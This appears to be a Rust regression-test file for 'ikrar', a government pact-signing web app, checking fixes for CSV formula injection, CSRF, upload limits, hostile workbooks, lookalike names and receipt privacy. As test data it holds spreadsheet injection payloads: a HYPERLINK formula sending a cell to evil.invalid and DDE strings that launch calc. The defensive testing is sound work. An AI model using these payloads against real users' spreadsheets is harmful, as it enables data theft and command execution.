//! Regression tests for what attacks on ikrar found: each fails without its fix.

use crate::common::*;
use ikrar::domain::audit::AuditAction;
use ikrar::domain::log_index::LogIndex;

/// Every cell of a CSV text, parsed.
fn cells(csv_text: &str) -> Vec<String> {
    // Files for spreadsheets start with a BOM and separate cells with `;`.
    let (text, delimiter) = match csv_text.strip_prefix('\u{feff}') {
        Some(text) => (text, b';'),
        None => (csv_text, b','),
    };
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(delimiter)
        .from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

/// Asserts that no cell of `csv_text` would run as a spreadsheet formula, and that `expected`
/// shows up as neutralised text.
fn no_formula(what: &str, csv_text: &str, expected: &str) {
    let all = cells(csv_text);
    for cell in &all {
        // `="…"` around digits only is how a NIP stays text in Excel: no formula can hide there.
        let nip_as_text = cell.strip_prefix("=\"").and_then(|c| c.strip_suffix('"'));
        if nip_as_text.is_some_and(|d| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit())) {
            continue;
        }
        assert!(
            cell == "-" || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{what}: a cell would run as a formula: {cell:?}\n{csv_text}"
        );
    }
    assert!(
        all.iter().any(|c| c == &format!("'{expected}")),
        "{what}: {expected:?} not found neutralised\n{csv_text}"
    );
}

const FORMULA_NAME: &str = "=HYPERLINK(\"http://evil.invalid/?\"&B2,\"klik\")";

#[tokio::test]
async fn no_csv_the_project_writes_carries_a_formula() {
    let app = TestApp::spawn().await;
    let roster = format!(
        "{ROSTER_HEADER}199004152019032004,{},PNS,-Perawat,DINKES,+Dinas Kesehatan,@Pemkab\n\
         =1+1,Budi,PPPK,Guru,DINKES,+Dinas Kesehatan,@Pemkab\n",
        csv_quote(FORMULA_NAME)
    );
    let dir = app.dir.path();
    let (file, codes, report) = (
        dir.join("roster.csv"),
        dir.join("codes.csv"),
        dir.join("report.csv"),
    );
    std::fs::write(&file, roster).unwrap();
    let out = app.ikrar(&[
        "roster",
        "import",
        file.to_str().unwrap(),
        "--skip-invalid",
        "--codes-out",
        codes.to_str().unwrap(),
        "--report",
        report.to_str().unwrap(),
    ]);
    assert!(out.status.success(), "{}", text(&out));
    no_formula(
        "--codes-out",
        &std::fs::read_to_string(&codes).unwrap(),
        FORMULA_NAME,
    );
    no_formula(
        "--report",
        &std::fs::read_to_string(&report).unwrap(),
        "=1+1",
    );

    create_admin(&app, "bkpsdm", "superadmin", None);
    // A failed sign-in writes what an outsider typed into the audit trail.
    let outsider = app.browser();
    let token = app.csrf(&outsider, "/admin/masuk").await;
    outsider
        .post(app.url("/admin/masuk"))
        .header("User-Agent", "@SUM(1+1)*cmd|' /C calc'!A0")
        .form(&[
            ("username", "=cmd|' /C calc'!A0"),
            ("password", "salah"),
            ("csrf_token", &token),
        ])
        .send()
        .await
        .unwrap();

    let admin = signed_in(&app, "bkpsdm").await;
    let pact = "/admin/pakta/netralitas-2024";
    let rekap = app
        .page(&admin, &format!("{pact}/laporan?per=unit&format=csv"))
        .await;
    no_formula("rekap", &rekap, "+Dinas Kesehatan");
    let daftar = app
        .page(&admin, &format!("{pact}/laporan?per=pegawai&format=csv"))
        .await;
    no_formula("daftar", &daftar, FORMULA_NAME);
    let web_codes = unit_codes(&app, &admin, "DINKES", "csv")
        .await
        .text()
        .await
        .unwrap();
    no_formula("kode aktivasi", &web_codes, FORMULA_NAME);
    let audit = app.page(&admin, "/admin/audit?format=csv").await;
    no_formula("audit", &audit, "=cmd|' /c calc'!a0");
    no_formula("audit", &audit, "@SUM(1+1)*cmd|' /C calc'!A0");
}

/// `text` as one CSV field.
fn csv_quote(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

fn mode(path: &std::path::Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

#[tokio::test]
async fn the_server_and_every_file_it_writes_are_private() {
    let root = tempfile::tempdir().unwrap();
    let data = DataDir::new();
    let mut server = Server::start_anywhere(&data).await;
    // No core dump can be written: RLIMIT_CORE is 0 for the running server.
    let limits = std::fs::read_to_string(format!("/proc/{}/limits", server.pid())).unwrap();
    let core = limits
        .lines()
        .find(|l| l.starts_with("Max core file size"))
        .unwrap();
    assert_eq!(
        core.split_whitespace().collect::<Vec<_>>()[4..6],
        ["0", "0"],
        "{core}"
    );
    let dir = data.path();
    assert_eq!(mode(dir), 0o700, "data directory");
    assert_eq!(mode(&dir.join("log-key.pem")), 0o600);
    if !data.is_postgres() {
        for file in ["ikrar.db", "ikrar.db-wal", "ikrar.db-shm"] {
            assert_eq!(mode(&dir.join(file)), 0o600, "{file}");
        }
    }
    server.kill();

    let out_dir = root.path();
    let (bundle, report, backup) = (
        out_dir.join("bundle.jsonl"),
        out_dir.join("rekap.xlsx"),
        out_dir.join("cadangan.db"),
    );
    let mut commands = vec![
        vec!["export", "bundle", bundle.to_str().unwrap()],
        vec![
            "export",
            "report",
            report.to_str().unwrap(),
            "--pact",
            "netralitas-2024",
        ],
    ];
    if !data.is_postgres() {
        commands.push(vec!["backup", backup.to_str().unwrap()]);
    }
    for args in &commands {
        let out = ikrar_in(&data, args);
        assert!(out.status.success(), "{args:?}: {}", text(&out));
        let written = args.iter().find(|a| a.starts_with('/')).unwrap();
        assert_eq!(mode(std::path::Path::new(written)), 0o600, "{args:?}");
    }
}

#[test]
fn hardening_makes_the_process_undumpable() {
    use rustix::process::{dumpable_behavior, getrlimit, DumpableBehavior, Resource};
    ikrar::hardening::harden().unwrap();
    assert_eq!(dumpable_behavior().unwrap(), DumpableBehavior::NotDumpable);
    let core = getrlimit(Resource::Core);
    assert_eq!((core.current, core.maximum), (Some(0), Some(0)));
    let probe = tempfile::tempdir().unwrap();
    let file = probe.path().join("baru");
    std::fs::write(&file, "x").unwrap();
    assert_eq!(mode(&file), 0o600, "umask 077");
}

/// "Budi Santoso"s, each with a character nobody sees, are refused by Unicode class with their
/// lines (nothing is imported); one spelled with a Cyrillic letter passes the class check but is
/// flagged, on the command line and on the upload page, as looking like the Budi already in the
/// unit.
#[tokio::test]
async fn lookalike_names_are_refused_by_class_or_flagged_by_skeleton() {
    let (app, _) = console().await;
    let hidden = [
        '\u{061c}',
        '\u{00ad}',
        '\u{034f}',
        '\u{180e}',
        '\u{2060}',
        '\u{2063}',
        '\u{206a}',
        '\u{fff9}',
        '\u{3164}',
        '\u{115f}',
        '\u{e0041}',
        '\u{fe0f}',
        '\u{200b}',
        '\u{202e}',
    ];
    let mut roster = String::from(ROSTER_HEADER);
    for (i, c) in hidden.iter().enumerate() {
        roster.push_str(&format!(
            "1990041520190320{:02},Budi{c} Santoso,PNS,Guru,DINDIKBUD,Dinas Pendidikan dan Kebudayaan,Pemerintah Kabupaten Purbalingga\n",
            i + 10
        ));
    }
    let file = app.dir.path().join("mirip.csv");
    std::fs::write(&file, &roster).unwrap();
    let report = app.dir.path().join("laporan.csv");
    let before = app.counts();
    let out = app.ikrar(&[
        "roster",
        "import",
        file.to_str().unwrap(),
        "--report",
        report.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let lines = std::fs::read_to_string(&report).unwrap();
    for (i, _) in hidden.iter().enumerate() {
        let row = format!("{},1990041520190320{:02},nama_invalid,", i + 2, i + 10);
        assert!(lines.contains(&row), "{row} in {lines}");
    }
    assert_eq!(app.counts(), before, "nothing imported");

    // A Cyrillic "В" looks like Budi Santoso of DINDIKBUD (already on the roster).
    let disguised = format!(
        "{ROSTER_HEADER}199004152019032099,\u{0412}udi Santoso,PNS,Guru,DINDIKBUD,Dinas Pendidikan dan Kebudayaan,Pemerintah Kabupaten Purbalingga\n"
    );
    std::fs::write(&file, &disguised).unwrap();
    let out = app.ikrar(&["roster", "import", file.to_str().unwrap(), "--dry-run"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        text(&out).contains("nama_mirip") && text(&out).contains(BUDI),
        "{}",
        text(&out)
    );
    let admin = signed_in(&app, "bkpsdm").await;
    let (status, page) = upload_roster(&app, &admin, disguised).await;
    assert_eq!(status, 200);
    assert!(
        page.contains("data-lookalike") && page.contains(BUDI),
        "{page}"
    );
}

#[tokio::test]
async fn the_signing_form_does_not_tell_who_is_on_the_roster() {
    let app = TestApp::spawn().await;
    let codes = app.import_roster(&small_roster());
    let browser = app.browser();
    let siti_code = &codes.iter().find(|(n, _)| n == SITI).unwrap().1;
    app.activate_ok(&browser, SITI, siti_code).await;
    let mut answers = Vec::new();
    for (who, nip, passphrase) in [
        ("unknown NIP", "198512302010011003", PASSPHRASE),
        ("rostered, not activated", BUDI, PASSPHRASE),
        ("wrong passphrase", SITI, "kuda merah makan rumput"),
    ] {
        let res = app.sign(&app.browser(), nip, passphrase).await;
        let status = res.status().as_u16();
        let html = res.text().await.unwrap();
        let error = error_text(&html).unwrap_or_default();
        assert!(
            html.contains("href=\"/aktivasi\""),
            "{who}: no way to activation"
        );
        assert!(
            html.contains("Hubungi BKPSDM untuk kode aktivasi baru"),
            "{who}"
        );
        answers.push((who, status, error));
    }
    for (who, status, error) in &answers {
        assert_eq!(
            (*status, error.as_str()),
            (403, "NIP atau frasa sandi salah. Pertama kali menandatangani? Aktivasi dulu dengan kode dari BKPSDM, lalu pakai frasa sandi yang Anda buat di sana."),
            "{who}"
        );
    }
}

#[tokio::test]
async fn attempts_at_a_locked_account_cost_the_audit_trail_one_row() {
    let app = TestApp::spawn().await;
    create_admin(&app, "bkpsdm", "superadmin", None);
    let outsider = app.browser();
    for _ in 0..5 {
        let res = post_sign_in(&app, &outsider, "bkpsdm", "salah sekali ini").await;
        assert_eq!(res.status(), 401);
    }
    for _ in 0..40 {
        let res = post_sign_in(&app, &outsider, "bkpsdm", "salah sekali ini").await;
        assert_eq!(res.status(), 429);
    }
    let mut conn = app.app.db.conn().unwrap();
    let locked =
        ikrar::db::audit::list(&mut conn, Some(AuditAction::SignInLocked), None, 0, 100).unwrap();
    assert_eq!(locked.len(), 1, "{locked:?}");
    assert_eq!(locked[0].repeat_count, 40);
    assert!(
        locked[0].detail.starts_with("bkpsdm (terkunci sampai "),
        "{locked:?}"
    );
    let all = ikrar::db::audit::list(&mut conn, None, None, 0, 1000).unwrap();
    assert!(all.len() < 10, "{} rows", all.len());
}

#[tokio::test]
async fn a_disabled_account_takes_its_tokens_and_sessions_with_it() {
    let (app, _) = console().await;
    create_admin(&app, "inspektorat", "auditor", None);
    let auditor = signed_in(&app, "bawaslu").await;
    let secret = create_api_token(&app, &auditor, "Pemantau Bawaslu").await;
    let second = create_api_token(&app, &auditor, "Cadangan").await;
    let entries = |bearer: &str| {
        reqwest::Client::new()
            .get(app.url("/log/entries?start=0&end=1"))
            .bearer_auth(bearer)
            .send()
    };
    assert_eq!(entries(&secret).await.unwrap().status(), 200);
    // Another auditor changes nothing of it; a superadmin may revoke anyone's.
    let other = signed_in(&app, "inspektorat").await;
    assert_eq!(
        press_status(&app, &other, "/admin/token/2/cabut").await,
        403
    );
    assert_eq!(entries(&second).await.unwrap().status(), 200);
    let superadmin = signed_in(&app, "bkpsdm").await;
    assert_eq!(
        press_status(&app, &superadmin, "/admin/token/2/cabut").await,
        303
    );
    assert_eq!(entries(&second).await.unwrap().status(), 401);
    // Disabling the auditor ends the session and every token they made.
    let id = {
        let mut conn = app.app.db.conn().unwrap();
        ikrar::db::admins::find_by_username(&mut conn, "bawaslu")
            .unwrap()
            .unwrap()
            .id
    };
    let path = format!("/admin/akun/{id}/nonaktifkan");
    assert_eq!(press_status(&app, &superadmin, &path).await, 303);
    assert_eq!(entries(&secret).await.unwrap().status(), 401);
    assert_eq!(status(&app, &auditor, "/admin/token").await, 303);
}

/// A roster workbook of a few KiB with one value at XFD1048576, the last cell of a sheet.
fn far_cell_workbook() -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    let siti = [
        "199004152019032004",
        "Siti",
        "PNS",
        "X",
        "DINKES",
        "Dinkes",
        "Pemkab",
    ];
    for (r, cells) in [ikrar::domain::roster::COLUMNS, siti].iter().enumerate() {
        for (c, value) in cells.iter().enumerate() {
            sheet.write_string(r as u32, c as u16, *value).unwrap();
        }
    }
    sheet.write_string(1_048_575, 16_383, "x").unwrap();
    book.save_to_buffer().unwrap()
}

/// A real roster workbook (its header) with one part rewritten by `edit`.
fn tampered_workbook(part: &str, edit: impl Fn(&str) -> String) -> Vec<u8> {
    use std::io::{Read, Write};
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (c, value) in ikrar::domain::roster::COLUMNS.iter().enumerate() {
        sheet.write_string(0, c as u16, *value).unwrap();
    }
    let real = book.save_to_buffer().unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(real)).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let mut edited = false;
    for i in 0..zip.len() {
        let mut entry = zip.by_index(i).unwrap();
        let name = entry.name().unwrap().into_owned();
        let mut body = Vec::new();
        entry.read_to_end(&mut body).unwrap();
        if name == part {
            let text = String::from_utf8(body).unwrap();
            let changed = edit(&text);
            assert_ne!(changed, text, "the edit changes {part}");
            body = changed.into_bytes();
            edited = true;
        }
        let options = zip::write::SimpleFileOptions::default();
        out.start_file(name, options).unwrap();
        out.write_all(&body).unwrap();
    }
    assert!(edited, "the workbook has {part}");
    out.finish().unwrap().into_inner()
}

/// A workbook whose shared-strings part declares a quadrillion strings (2 KiB).
fn boastful_workbook() -> Vec<u8> {
    tampered_workbook("xl/sharedStrings.xml", |xml| {
        xml.replacen("<sst ", r#"<sst uniqueCount="1000000000000000" "#, 1)
            .replace(r#" uniqueCount="7""#, "")
    })
}

/// A hostile workbook is refused clearly by `roster import` (exit 1) and by the upload page
/// (422), nothing is written, and the server keeps serving.
async fn workbook_refused_everywhere(bytes: Vec<u8>, said: &str) {
    let (app, _) = console().await;
    assert!(bytes.len() < 10_000);
    let file = app.dir.path().join("buku.xlsx");
    std::fs::write(&file, &bytes).unwrap();
    let before = app.counts();
    let out = app.ikrar(&["roster", "import", file.to_str().unwrap(), "--dry-run"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(text(&out).contains(said), "{}", text(&out));
    let admin = signed_in(&app, "bkpsdm").await;
    let (status, page) = upload_file(&app, &admin, bytes, "buku.xlsx").await;
    assert_eq!(status, 422);
    assert!(page.contains(said), "{page}");
    assert_eq!(status_of(&app, "/healthz").await, 200);
    assert_eq!(app.counts(), before);
}

#[tokio::test]
async fn a_tiny_workbook_with_a_far_cell_is_refused_and_the_server_stays_up() {
    workbook_refused_everywhere(far_cell_workbook(), "kolom ke-16384").await;
}

#[tokio::test]
async fn a_tiny_workbook_whose_cell_reference_overflows_is_refused_and_the_server_stays_up() {
    let book = tampered_workbook("xl/worksheets/sheet1.xml", |xml| {
        xml.replacen(r#"r="A1""#, r#"r="AAAAAAAAAAAAAAAAAAAAA1""#, 1)
    });
    workbook_refused_everywhere(book, "tidak ada di lembar kerja").await;
}

#[tokio::test]
async fn a_tiny_workbook_that_declares_a_quadrillion_strings_is_refused_and_the_server_stays_up() {
    workbook_refused_everywhere(boastful_workbook(), "mengaku berisi 1000000000000000 teks").await;
}

async fn status_of(app: &TestApp, path: &str) -> u16 {
    reqwest::get(app.url(path)).await.unwrap().status().as_u16()
}

#[tokio::test]
async fn the_whole_upload_body_is_capped_not_each_field() {
    let (app, _) = console().await;
    let admin = signed_in(&app, "bkpsdm").await;
    let token = app.csrf(&admin, "/admin/roster").await;
    let twenty_mib = vec![b'x'; 20 << 20];
    let form = reqwest::multipart::Form::new()
        .text("csrf_token", token)
        .part("isian", reqwest::multipart::Part::bytes(twenty_mib.clone()))
        .part(
            "berkas",
            reqwest::multipart::Part::bytes(twenty_mib).file_name("roster.csv"),
        );
    let res = admin
        .post(app.url("/admin/roster"))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 422);
    let page = res.text().await.unwrap();
    assert!(page.contains("lebih besar dari 32 MiB"), "{page}");
}

#[tokio::test]
async fn an_upload_without_the_role_is_refused_before_its_body_is_read() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let (app, _) = console().await;
    let cookies = signed_in_cookies(&app, "dinkes").await;
    let mut stream = tokio::net::TcpStream::connect(app.base.trim_start_matches("http://"))
        .await
        .unwrap();
    // Headers for a 30 MiB body, then only a few bytes of it: a handler that read the body
    // first would wait for the rest.
    let head = format!(
        "POST /admin/roster HTTP/1.1\r\nHost: localhost\r\nCookie: {cookies}\r\n\
         Content-Type: multipart/form-data; boundary=XYZ\r\nContent-Length: {}\r\n\r\n\
         --XYZ\r\nContent-Disposition: form-data; name=\"berkas\"; filename=\"r.csv\"\r\n\r\n",
        30 << 20
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    let mut answer = [0u8; 64];
    let read = tokio::time::timeout(std::time::Duration::from_secs(20), stream.read(&mut answer))
        .await
        .expect("the server answered without waiting for the body")
        .unwrap();
    let status_line = String::from_utf8_lossy(&answer[..read]);
    assert!(status_line.starts_with("HTTP/1.1 403"), "{status_line}");
}

#[tokio::test]
async fn a_csrf_token_from_before_sign_in_is_worthless_after_it() {
    let (app, _) = console().await;
    let browser = app.browser();
    let before = app.csrf(&browser, "/admin/masuk").await;
    let res = post_sign_in(&app, &browser, "bkpsdm", ADMIN_PASSWORD).await;
    assert_eq!(res.status(), 303);
    let renewed = res
        .headers()
        .get_all("set-cookie")
        .iter()
        .any(|v| v.to_str().unwrap().starts_with("ikrar_csrf="));
    assert!(renewed, "sign-in renews the CSRF cookie");
    let post = |token: String| {
        browser
            .post(app.url("/admin/token"))
            .form(&[("name", "Pemantau"), ("csrf_token", token.as_str())])
            .send()
    };
    assert_eq!(post(before).await.unwrap().status(), 403);
    // A token for this session works; one bound to another session of the same browser
    // cookie does not.
    let now = app.csrf(&browser, "/admin/token").await;
    assert_eq!(post(now.clone()).await.unwrap().status(), 200);
    let res = post_sign_in(&app, &browser, "bkpsdm", ADMIN_PASSWORD).await;
    assert_eq!(res.status(), 303);
    assert_eq!(post(now).await.unwrap().status(), 403);
}

#[tokio::test]
async fn every_post_route_refuses_a_missing_token() {
    let (app, _) = console().await;
    let admin = signed_in(&app, "bkpsdm").await;
    let routes = [
        "/aktivasi",
        "/pakta/netralitas-2024/tanda-tangan",
        "/admin/masuk",
        "/admin/keluar",
        "/admin/pegawai/200002292022012001/reset",
        "/admin/akun",
        "/admin/akun/2/nonaktifkan",
        "/admin/token",
        "/admin/token/1/cabut",
        "/admin/roster/00000000000000000000000000000000",
        "/admin/unit/DINKES/kode",
        "/admin/pakta-baru",
    ];
    for route in routes {
        let res = admin
            .post(app.url(route))
            .form(&[("csrf_token", "palsu")])
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 403, "{route}");
    }
    let form = reqwest::multipart::Form::new()
        .text("csrf_token", "palsu")
        .part(
            "berkas",
            reqwest::multipart::Part::bytes(small_roster().into_bytes()),
        );
    let res = admin
        .post(app.url("/admin/roster"))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403, "/admin/roster");
    // Still signed in, nothing changed.
    assert_eq!(status(&app, &admin, "/admin").await, 200);
}

#[tokio::test]
async fn https_deployments_get_host_cookies_and_hsts() {
    let app = TestApp::spawn_configured(DataDir::new(), |c| {
        c.public_url = "https://ikrar.purbalinggakab.go.id".into();
    })
    .await;
    let res = app.browser().get(app.url("/")).send().await.unwrap();
    assert_eq!(
        res.headers()["strict-transport-security"],
        "max-age=63072000; includeSubDomains"
    );
    let cookie = res.headers()["set-cookie"].to_str().unwrap().to_owned();
    assert!(cookie.starts_with("__Host-ikrar_csrf="), "{cookie}");
    assert!(
        cookie.contains("Secure") && cookie.contains("Path=/"),
        "{cookie}"
    );
    assert!(!cookie.contains("Domain"), "{cookie}");
    let plain = TestApp::spawn().await;
    let res = plain.browser().get(plain.url("/")).send().await.unwrap();
    assert!(res.headers().get("strict-transport-security").is_none());
}

/// The token the old links used: the first 16 bytes of the entry's leaf hash, which anyone with
/// the log (or a neighbour's inclusion proof) could compute.
fn leaf_hash_token(app: &TestApp, index: i64) -> String {
    use base64::Engine;
    let mut conn = app.app.db.conn().unwrap();
    let stored = ikrar::db::log_store::get(&mut conn, LogIndex(index as u64))
        .unwrap()
        .unwrap();
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(&stored.leaf_hash[..16])
}

#[tokio::test]
async fn a_receipt_link_shows_only_what_is_public_and_the_file_only_to_its_signer() {
    let app = TestApp::spawn().await;
    let receipts = app.everyone_signs().await;
    let (nip, path) = receipts.last().unwrap().clone();
    let index: i64 = path.split('/').nth(2).unwrap().parse().unwrap();

    // The link's token is derived from nothing in the log: the old leaf-hash token is no link.
    let token = path.rsplit('/').next().unwrap();
    let old = leaf_hash_token(&app, index);
    assert_ne!(token, old);
    let stranger = app.browser();
    let old_link = format!("/bukti/{index}/{old}");
    assert_eq!(status(&app, &stranger, &old_link).await, 404);
    // Nor are the neighbours' links, computed the old way from the log.
    for (_, other) in &receipts[..receipts.len() - 1] {
        let i: i64 = other.split('/').nth(2).unwrap().parse().unwrap();
        let guessed = format!("/bukti/{i}/{}", leaf_hash_token(&app, i));
        assert_eq!(status(&app, &stranger, &guessed).await, 404);
    }

    // What the QR link shows anyone: no full NIP, no key, no signature, in no format.
    let page = app.page(&stranger, &path).await;
    assert!(page.contains("Tercatat dalam log transparansi"), "{page}");
    assert!(!page.contains(&nip) && page.contains(&ikrar_log::nip::mask(&nip)));
    let entry = {
        let mut conn = app.app.db.conn().unwrap();
        let stored = ikrar::db::log_store::get(&mut conn, LogIndex(index as u64))
            .unwrap()
            .unwrap();
        String::from_utf8(stored.body).unwrap()
    };
    for line in entry
        .lines()
        .filter(|l| l.starts_with("key ") || l.starts_with("sig "))
    {
        let value = line.split_once(' ').unwrap().1;
        assert!(!page.contains(value), "the page shows {line}");
    }
    for suffix in [".json", "/unduh"] {
        let res = stranger
            .get(app.url(&format!("{path}{suffix}")))
            .send()
            .await
            .unwrap();
        let body = res.text().await.unwrap_or_default();
        assert!(!body.contains(&nip), "{path}{suffix} gives the NIP away");
    }

    // The browser that signed gets the file right away.
    let signer = app.browser();
    let codes = app.import_roster(&small_roster());
    assert!(codes.is_empty(), "everyone has a code already");
    let res = app.sign(&signer, &nip, PASSPHRASE).await;
    assert_eq!(
        res.status(),
        409,
        "already signed, with the right passphrase"
    );
    let again = app.page(&signer, &path).await;
    assert!(again.contains(&format!("{path}/unduh")), "{again}");
    let file = signer
        .get(app.url(&format!("{path}/unduh")))
        .send()
        .await
        .unwrap();
    assert_eq!(file.status(), 200);
    let parsed: ikrar_log::receipt::Receipt =
        serde_json::from_str(&file.text().await.unwrap()).unwrap();
    let summary = ikrar_log::receipt::check(&parsed, None, &Default::default());
    assert!(summary.is_valid(), "{:?}", summary.faults);
    assert_eq!(summary.signer.unwrap().nip, nip);

    // Anyone else: only with the signer's NIP and passphrase, one answer for every refusal.
    let other_nip = &receipts[0].0;
    for (who, given_nip, passphrase) in [
        ("wrong passphrase", nip.as_str(), "bukan frasa sandinya"),
        ("another signer", other_nip.as_str(), PASSPHRASE),
        ("unknown NIP", "198512302010011003", PASSPHRASE),
    ] {
        let res = app
            .redownload(&stranger, &path, given_nip, passphrase)
            .await;
        assert_eq!(res.status(), 403, "{who}");
        let html = res.text().await.unwrap();
        assert_eq!(
            error_text(&html).as_deref(),
            Some("NIP atau frasa sandi salah. Pertama kali menandatangani? Aktivasi dulu dengan kode dari BKPSDM, lalu pakai frasa sandi yang Anda buat di sana."),
            "{who}"
        );
    }
    let res = app.redownload(&stranger, &path, &nip, PASSPHRASE).await;
    assert_eq!(res.status(), 200);
    assert!(res.text().await.unwrap().contains(&format!("nip {nip}")));
}

#[tokio::test]
async fn replacing_an_activated_employees_key_takes_two_people_and_is_named() {
    let (app, _) = console().await;
    create_admin(&app, "bkpsdm2", "superadmin", None);
    let dinkes = signed_in(&app, "dinkes").await;
    // The attack: a unit-admin resets Siti (activated, signed) to sign as her. No code comes
    // out, with or without a reason.
    let res = press(&app, &dinkes, &format!("/admin/pegawai/{SITI}/reset")).await;
    assert_eq!(res.status(), 422);
    let page = res.text().await.unwrap();
    assert!(!page.contains("class=\"code\""), "{page}");
    let res = request_reset(&app, &dinkes, SITI, "lupa frasa sandi, datang ke kantor").await;
    assert_eq!(res.status(), 200);
    let page = res.text().await.unwrap();
    assert!(!page.contains("class=\"code\"") && page.contains("menunggu persetujuan"));
    let again = request_reset(&app, &dinkes, SITI, "lupa frasa sandi, datang lagi").await;
    assert_eq!(again.status(), 409);
    // The old passphrase still works: nothing changed yet.
    let mut conn = app.app.db.conn().unwrap();
    let siti = ikrar::db::employees::find(&mut conn, &nip(SITI))
        .unwrap()
        .unwrap();
    assert!(siti.activation_code_hash.is_none() && siti.key_count == 1);
    drop(conn);
    // A unit-admin cannot decide; nor can a superadmin decide their own request.
    assert_eq!(status(&app, &dinkes, "/admin/reset").await, 403);
    assert_eq!(
        press_status(&app, &dinkes, "/admin/reset/1/setujui").await,
        403
    );
    let bkpsdm = signed_in(&app, "bkpsdm").await;
    let res = request_reset(&app, &bkpsdm, BUDI, "pegawai pindah HP, konfirmasi telepon").await;
    assert_eq!(res.status(), 200);
    let (siti_request, budi_request) = (open_request(&app, SITI), open_request(&app, BUDI));
    let own = format!("/admin/reset/{budi_request}/setujui");
    assert_eq!(press_status(&app, &bkpsdm, &own).await, 403);
    // A different superadmin approves Siti's: the code exists only now, shown to them.
    let html = approve_first_request(&app, &bkpsdm).await;
    let code = code_in(&html);
    let decided = format!("/admin/reset/{siti_request}/setujui");
    assert_eq!(press_status(&app, &bkpsdm, &decided).await, 409);
    let mut conn = app.app.db.conn().unwrap();
    let trail: Vec<String> = ikrar::db::audit::list(&mut conn, None, None, 0, 50)
        .unwrap()
        .into_iter()
        .map(|e| format!("{} {} {}", e.actor, e.action, e.detail))
        .collect();
    assert!(
        trail
            .iter()
            .any(|e| e.starts_with("dinkes reset_request 199004152019032004: lupa"))
            && trail
                .iter()
                .any(|e| e.starts_with("bkpsdm reset_approve 199004152019032004 (diminta dinkes")),
        "{trail:#?}"
    );
    drop(conn);

    // Siti re-activates and signs a new pact with her new key: the dashboard and the verifier
    // name that signature.
    let employee = app.browser();
    let new_passphrase = "lampu merah di jalan raya";
    let res = app
        .activate_with(&employee, SITI, &code, new_passphrase)
        .await;
    assert_eq!(res.status(), 200);
    let pact = ikrar_log::pact::Pact {
        id: ikrar_log::values::PactId::parse("apel-2026").unwrap(),
        title: "Ikrar Apel 2026".into(),
        body: "Kami berjanji.".into(),
    };
    ikrar::service::pacts::publish(
        &app.app,
        ikrar::domain::audit::Actor::default(),
        pact,
        ikrar::service::pacts::Window::default(),
    )
    .await
    .unwrap();
    // Whoever types the replaced passphrase learns that the key was replaced, and when; any
    // other wrong passphrase is just wrong.
    for (passphrase, said) in [
        (PASSPHRASE, "Kunci itu telah diganti pada"),
        (
            "bukan frasa sandi siti sama sekali",
            "NIP atau frasa sandi salah. Pertama kali menandatangani? Aktivasi dulu dengan kode dari BKPSDM, lalu pakai frasa sandi yang Anda buat di sana.",
        ),
    ] {
        let res = app
            .sign_pact(
                &app.browser(),
                "apel-2026",
                &[("nip", SITI), ("passphrase", passphrase), ("setuju", "ya")],
            )
            .await;
        assert_eq!(res.status(), 403);
        let page = res.text().await.unwrap();
        assert!(page.contains(said), "{passphrase}: {page}");
    }
    let res = app
        .sign_pact(
            &employee,
            "apel-2026",
            &[
                ("nip", SITI),
                ("passphrase", new_passphrase),
                ("setuju", "ya"),
            ],
        )
        .await;
    assert_eq!(res.status(), 303);
    let index: String = res.headers()["location"].to_str().unwrap()["/bukti/".len()..]
        .chars()
        .take_while(char::is_ascii_digit)
        .collect();
    let dashboard = app.page(&bkpsdm, "/admin/pakta/apel-2026").await;
    assert!(
        dashboard.contains("kunci pengganti") && dashboard.contains(SITI),
        "{dashboard}"
    );
    let old = app.page(&bkpsdm, "/admin/pakta/netralitas-2024").await;
    assert!(!old.contains("Tanda tangan dengan kunci pengganti"));
    let bundle = app.export("resets.jsonl");
    let out = app.ikrar(&["verify", bundle.to_str().unwrap(), "--json"]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let summary: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        summary["replaced_keys"],
        serde_json::json!({ "DINKES": [index.parse::<u64>().unwrap()] })
    );
}

/// One superadmin alone cannot become two people: a superadmin made in the console waits for a
/// second superadmin, and no account may decide for an account it made or approved (or that
/// made or approved it).
#[tokio::test]
async fn one_superadmin_cannot_act_as_two_people() {
    let (app, _) = console().await;
    let bkpsdm = signed_in(&app, "bkpsdm").await;
    // A second superadmin made in the console waits, unusable.
    let res = create_in_console(&app, &bkpsdm, "bayangan", "superadmin", "").await;
    assert_eq!(res.status(), 200);
    assert!(res.text().await.unwrap().contains("menunggu persetujuan"));
    let res = post_sign_in(&app, &app.browser(), "bayangan", ADMIN_PASSWORD).await;
    assert_eq!(
        res.status(),
        401,
        "an account waiting for approval signs in"
    );
    // Its maker cannot approve it, even confirmed.
    let bayangan = admin_id(&app, "bayangan");
    let approve = format!("/admin/akun/{bayangan}/setujui");
    assert_eq!(press_status(&app, &bkpsdm, &approve).await, 403);
    // A unit-admin the superadmin made asks for Siti's reset; its maker cannot approve.
